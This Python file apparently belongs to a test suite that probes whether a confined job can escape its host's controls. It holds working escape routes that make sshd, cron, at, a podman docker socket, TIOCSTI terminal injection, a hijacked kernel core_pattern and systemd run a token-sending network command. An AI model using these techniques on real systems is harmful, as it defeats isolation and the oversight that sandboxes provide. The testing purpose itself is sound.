"""Work handed to somebody on this host who is not managed."""

import errno
import fcntl
import http.client
import json
import os
import pwd
import shutil
import signal
import socket
import subprocess
import tempfile
import termios
import time

from system import CLONE_NEWNS, libc, unshare
from way import PATIENCE, Unavailable, ask, way

SSH_PORT = 2222
PR_SET_PDEATHSIG = 1
# Programs of somebody else's take their time to start, above all on an emulated processor.
LONG = 30


def found(*programs):
    for program in programs:
        if not shutil.which(program, path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"):
            raise Unavailable(f"no {program} on this host")


def errand(world):
    """A command that asks for the token, for whoever can be made to run it."""
    script = (
        "import socket; s = socket.create_connection(('%s', %d), 3); s.sendall(b'%s\\n'); print(s.recv(99))"
        % (world.remote4, world.port, world.nonce)
    )
    return ["/usr/bin/python3", "-c", script]


def quoted(words):
    return " ".join("'" + word.replace("'", "'\\''") + "'" for word in words)


def done(command, **more):
    try:
        ended = subprocess.run(command, capture_output=True, text=True, timeout=LONG, **more)
    except subprocess.TimeoutExpired as error:
        raise OSError(f"{command[0]} did not end within {LONG} s") from error
    if ended.returncode:
        raise OSError(f"{command[0]} ended with {ended.returncode}: {ended.stderr.strip()[-300:]}")
    return ended.stdout


def until(what, condition):
    deadline = time.monotonic() + LONG
    while not condition():
        if time.monotonic() > deadline:
            raise OSError("waited in vain for " + what)
        time.sleep(0.02)


def answers(port):
    with socket.socket() as sock:
        return sock.connect_ex(("127.0.0.1", port)) == 0


def ask_unix(world, path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(PATIENCE)
        sock.connect(path)
        return ask(world, sock)


def daemon(command):
    """Somebody who is always there; for as long as the attack takes."""
    subprocess.Popen(
        command,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        preexec_fn=lambda: libc.prctl(PR_SET_PDEATHSIG, signal.SIGKILL, 0, 0, 0),
    )


@way()
def unix_socket(world):
    """The socket that a database has on its own host besides."""
    return ask_unix(world, world.unix)


@way()
def unix_spelling(world):
    return ask_unix(world, os.path.join(world.dir, "..", os.path.basename(world.dir), os.path.basename(world.unix)))


def link(world):
    world.link = os.path.join(world.dir, world.nonce)
    os.symlink(world.unix, world.link)


@way(prepare=link)
def unix_link(world):
    """The link is made by root here; a job makes its own wherever it may write."""
    return ask_unix(world, world.link)


def private(path, world, name):
    """A directory of the suite's own in the place of the host's, for this process and what it starts."""
    place = os.path.join(world.dir, f"{world.nonce}-{name}")
    os.mkdir(place)
    subprocess.run(["mount", "--bind", place, path], check=True)
    return path


def own_mounts():
    unshare(CLONE_NEWNS)
    subprocess.run(["mount", "--make-rprivate", "/"], check=True)


def ssh_server(world):
    """An sshd on loopback, and a key that lets the job in as root."""
    found("/usr/sbin/sshd", "ssh", "ssh-keygen")
    own_mounts()
    private("/run", world, "run")
    os.mkdir("/run/sshd", 0o755)
    home = os.path.join(world.dir, world.nonce)
    os.mkdir(home, 0o755)
    for name in ("host", "job"):
        done(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", os.path.join(home, name)])
    os.chown(os.path.join(home, "job"), pwd.getpwnam(world.user).pw_uid, -1)
    with open(os.path.join(home, "config"), "w") as config:
        config.write(
            f"Port {SSH_PORT}\nListenAddress 127.0.0.1\nHostKey {home}/host\nAuthorizedKeysFile {home}/job.pub\n"
            "StrictModes no\nUsePAM no\nPermitRootLogin yes\nPidFile none\nPasswordAuthentication no\n"
        )
    daemon(["/usr/sbin/sshd", "-D", "-f", f"{home}/config"])
    until("sshd", lambda: answers(SSH_PORT))


def ssh(world, *words):
    options = ["BatchMode=yes", "StrictHostKeyChecking=no", "UserKnownHostsFile=/dev/null", "LogLevel=ERROR"]
    command = ["ssh", "-F", "none", "-p", str(SSH_PORT), "-i", os.path.join(world.dir, world.nonce, "job")]
    for option in options:
        command += ["-o", option]
    return [*command, *words]


@way(prepare=ssh_server)
def ssh_localhost(world):
    return done(ssh(world, "root@127.0.0.1", quoted(errand(world))))


@way(prepare=ssh_server)
def ssh_jump(world):
    """A host that may be reached by ssh, as the way to one that may not: what `ProxyJump` does."""
    command = ssh(world, "-W", f"{world.remote4}:{world.port}", "root@127.0.0.1")
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as jump:
        jump.stdin.write(world.message)
        jump.stdin.flush()
        got = jump.stdout.readline()
        jump.kill()
        return got or jump.stderr.read()[-300:]


def spool(world):
    """Directories of cron's and at's own, so that nothing is left on the host."""
    own_mounts()
    run = private("/run", world, "run")
    os.chmod(run, 0o755)
    if os.path.exists("/var/spool/cron"):
        where = "/var/spool/cron"
        before = {}
        for name in os.listdir(where):
            info = os.stat(os.path.join(where, name))
            before[name] = (info.st_mode & 0o7777, info.st_uid, info.st_gid)
        private(where, world, "spool")
        os.chmod(where, 0o755)
        for name, (mode, uid, gid) in before.items():
            os.mkdir(os.path.join(where, name))
            os.chown(os.path.join(where, name), uid, gid)
            os.chmod(os.path.join(where, name), mode)


def at_daemon(world):
    found("at", "atd")
    spool(world)
    # Debian's list names every user of the system, and jobs have users of their own.
    empty = os.path.join(world.dir, world.nonce + "-deny")
    open(empty, "w").close()
    os.chmod(empty, 0o644)
    if os.path.exists("/etc/at.deny"):
        subprocess.run(["mount", "--bind", empty, "/etc/at.deny"], check=True)
    jobs = "/var/spool/cron/atjobs"
    if not os.path.exists(os.path.join(jobs, ".SEQ")):
        open(os.path.join(jobs, ".SEQ"), "w").close()
        info = os.stat(jobs)
        os.chown(os.path.join(jobs, ".SEQ"), info.st_uid, info.st_gid)
        os.chmod(os.path.join(jobs, ".SEQ"), 0o600)
    daemon(["atd", "-f"])
    until("atd", lambda: os.path.exists("/run/atd.pid"))


def proof(world):
    """A file that whoever runs the errand leaves behind when it is done."""
    place = os.path.join(world.dir, world.nonce + "-done")
    os.mkdir(place)
    os.chmod(place, 0o777)
    return os.path.join(place, "done")


def prepared(set_up):
    def prepare(world):
        set_up(world)
        world.proof = proof(world)

    return prepare


@way(prepare=prepared(at_daemon))
def at(world):
    done(["at", "now"], input=f"{quoted(errand(world))}; touch {world.proof}\n", cwd="/")
    until("atd to run the job", lambda: os.path.exists(world.proof))
    return "atd ran it"


def cron_is_there(world):
    found("cron", "crontab")
    spool(world)


def cron_daemon(world, channel):
    """The host starts anew, as far as cron can tell."""
    if channel.recv(16):
        daemon(["cron", "-f"])
    channel.recv(16)


@way(prepare=prepared(cron_is_there), outside=cron_daemon, outside_user="root")
def cron(world):
    table = f"HOME=/\n@reboot {quoted(errand(world))}; touch {world.proof}\n"
    done(["crontab", "-"], input=table, cwd="/")
    world.channel.send(b"start")
    until("cron to run the job", lambda: os.path.exists(world.proof))
    return "cron ran it"


class Docker(http.client.HTTPConnection):
    """The engine's interface, over its unix socket."""

    def __init__(self, path):
        super().__init__("docker", timeout=LONG)
        self.path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(LONG)
        self.sock.connect(self.path)

    def call(self, method, path, body=None):
        self.request(method, path, json.dumps(body) if body else None, {"Content-Type": "application/json"})
        response = self.getresponse()
        text = response.read()
        if response.status >= 300:
            raise OSError(f"{method} {path}: {response.status} {text[:300]!r}")
        return json.loads(text) if text.strip() else None


def engine(world):
    """Podman's service, which speaks what docker.sock speaks, with an empty image."""
    found("podman", "crun")
    own_mounts()
    private("/run", world, "run")
    # Podman takes no long names.
    home = world.engine = tempfile.mkdtemp(prefix="p", dir=world.dir)
    os.chmod(home, 0o711)
    with open("/proc/self/mountinfo") as mounts:
        if not any(" / /sys/fs/cgroup " in line and " cgroup2 " in line for line in mounts):
            # The runtime looks for one hierarchy in the usual place.
            subprocess.run(["mount", "-t", "cgroup2", "cgroup2", "/sys/fs/cgroup"], check=True)
    # Containers of the engine's own cgroup: what else the runtime does for them, it may not do on every host.
    with open(f"{home}/containers.conf", "w") as config:
        config.write('[containers]\ncgroups = "disabled"\n')
    os.environ["CONTAINERS_CONF"] = f"{home}/containers.conf"
    podman = ["podman", "--root", f"{home}/root", "--runroot", f"{home}/run", "--storage-driver", "vfs"]
    podman += ["--cgroup-manager", "cgroupfs", "--runtime", "crun", "--events-backend", "none"]
    empty = subprocess.run(["tar", "-cf", "-", "-T", "/dev/null"], capture_output=True, check=True).stdout
    done_bytes = subprocess.run([*podman, "import", "-", "localhost/empty:1"], input=empty, capture_output=True, timeout=LONG)
    if done_bytes.returncode:
        raise Unavailable(f"podman cannot import an image: {done_bytes.stderr[-200:]!r}")
    daemon([*podman, "system", "service", "--time=0", f"unix://{home}/docker.sock"])
    until("podman", lambda: os.path.exists(f"{home}/docker.sock"))
    # Members of the group `docker` may write to it; here the job is one.
    os.chmod(f"{home}/docker.sock", 0o666)


@way(prepare=engine)
def container_engine(world):
    docker = Docker(os.path.join(world.engine, "docker.sock"))
    system = [name for name in ("/usr", "/bin", "/lib", "/lib64", "/sbin") if os.path.exists(name)]
    created = docker.call(
        "POST",
        "/v1.40/containers/create",
        {
            "Image": "localhost/empty:1",
            "Cmd": errand(world),
            "HostConfig": {
                "NetworkMode": "host",
                "Binds": [f"{name}:{name}:ro" for name in system],
                # What the engine has by itself may be more than it may give on this host.
                "Ulimits": [{"Name": name, "Soft": 512, "Hard": 512} for name in ("nofile", "nproc")],
            },
        },
    )
    docker.call("POST", f"/v1.40/containers/{created['Id']}/start")
    return docker.call("POST", f"/v1.40/containers/{created['Id']}/wait")


def shell_on_terminal(world):
    world.controller, world.terminal = os.openpty()


def shell(world, channel):
    """Somebody's shell, on the terminal that the job was started from."""
    line = os.read(world.terminal, 4096).decode()
    subprocess.run(["sh", "-c", line], timeout=LONG)
    channel.send(b"ran")


@way(prepare=shell_on_terminal, outside=shell)
def terminal(world):
    """Types into the terminal that it shares with a shell (`TIOCSTI`)."""
    os.setsid()
    fcntl.ioctl(world.terminal, termios.TIOCSCTTY, 0)
    for byte in quoted(errand(world)) + "\n":
        try:
            fcntl.ioctl(world.terminal, termios.TIOCSTI, byte.encode())
        except OSError as error:
            # Linux 6.2 and newer can have it switched off, for all but root.
            if error.errno == errno.EIO and not world.tollgate:
                raise Unavailable(f"TIOCSTI is switched off here ({error})") from error
            raise
    world.channel.recv(16)
    return "the shell ran it"


@way()
def core_pattern(world):
    """A program that the kernel starts, as root and unmanaged, when a process crashes."""
    path = "/proc/sys/kernel/core_pattern"
    script = os.path.join(world.dir, world.nonce + ".sh")
    seen = os.path.join(world.dir, world.nonce + ".done")
    with open(script, "w") as file:
        # The kernel starts it in the first network namespace, which is not the one that plays the host here.
        inside = ["nsenter", f"--net=/proc/{os.getpid()}/ns/net", *errand(world)]
        file.write(f"#!/bin/sh\nPATH=/usr/sbin:/usr/bin:/sbin:/bin\n{quoted(inside)}\ntouch {seen}\n")
    os.chmod(script, 0o755)
    with open(path) as file:
        usual = file.read()
    try:
        with open(path, "w") as file:
            file.write(f"|{script}")
        pid = os.fork()
        if pid == 0:
            os.kill(os.getpid(), signal.SIGSEGV)
        os.waitpid(pid, 0)
        until("the kernel to start it", lambda: os.path.exists(seen))
    finally:
        with open(path, "w") as file:
            file.write(usual)
    return "the kernel started it"


def systemd(world):
    if not os.path.isdir("/run/systemd/system"):
        raise Unavailable("systemd is not the first process of this host")
    found("systemd-run")


@way(prepare=systemd)
def systemd_run(world):
    """A transient unit, which systemd starts for whoever may ask it to over D-Bus."""
    network = f"NetworkNamespacePath=/proc/{os.getpid()}/ns/net"
    return done(["systemd-run", "--quiet", "--wait", "--collect", "--pipe", "-p", network, *errand(world)])


def systemd_on_bus(world):
    systemd(world)
    found("busctl")


@way(prepare=prepared(systemd_on_bus))
def systemd_bus(world):
    """The same in the words of the bus, without the program that is made for it."""
    script = f"{quoted(errand(world))}; touch {world.proof}"
    words = ["/bin/sh", "-c", script]
    properties = ["2", "NetworkNamespacePath", "s", f"/proc/{os.getpid()}/ns/net"]
    properties += ["ExecStart", "a(sasb)", "1", words[0], str(len(words)), *words, "false"]
    manager = ["org.freedesktop.systemd1", "/org/freedesktop/systemd1", "org.freedesktop.systemd1.Manager"]
    unit = world.nonce + ".service"
    call = [*manager, "StartTransientUnit", "ssa(sv)a(sa(sv))", unit, "fail", *properties, "0"]
    done(["busctl", "--system", "--", "call", *call])
    until("systemd to run it", lambda: os.path.exists(world.proof))
    return "systemd ran it"


def user_manager(world):
    systemd(world)
    uid = pwd.getpwnam(world.user).pw_uid
    started = subprocess.run(["systemctl", "start", f"user@{uid}.service"], capture_output=True, text=True, timeout=30)
    if started.returncode or not os.path.exists(f"/run/user/{uid}/systemd/private"):
        raise Unavailable(f"no systemd for users here: {started.stderr.strip()[-200:]}")


@way(prepare=user_manager)
def systemd_of_user(world):
    """The same by the user's own systemd, which is not a child of the job's. It is in the host's first network namespace, so it
    goes to the unix socket."""
    script = (
        "import socket; s = socket.socket(socket.AF_UNIX); s.connect('%s'); s.sendall(b'%s\\n'); print(s.recv(99))"
        % (world.unix, world.nonce)
    )
    environment = {"XDG_RUNTIME_DIR": f"/run/user/{os.getuid()}", "PATH": os.environ["PATH"]}
    command = ["systemd-run", "--user", "--quiet", "--wait", "--collect", "--pipe", "/usr/bin/python3", "-c", script]
    return done(command, env=environment)
